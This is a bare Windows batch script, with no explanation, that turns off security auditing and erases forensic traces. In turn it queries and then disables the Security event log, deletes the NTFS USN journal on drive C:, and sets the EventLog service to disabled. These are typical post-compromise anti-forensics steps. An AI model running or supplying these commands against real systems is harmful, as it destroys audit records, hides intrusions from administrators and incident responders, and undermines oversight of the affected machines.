@echo off
wevtutil gl Security
wevtutil sl Security /e:false
fsutil usn deletejournal /d C:
sc config EventLog start= disabled
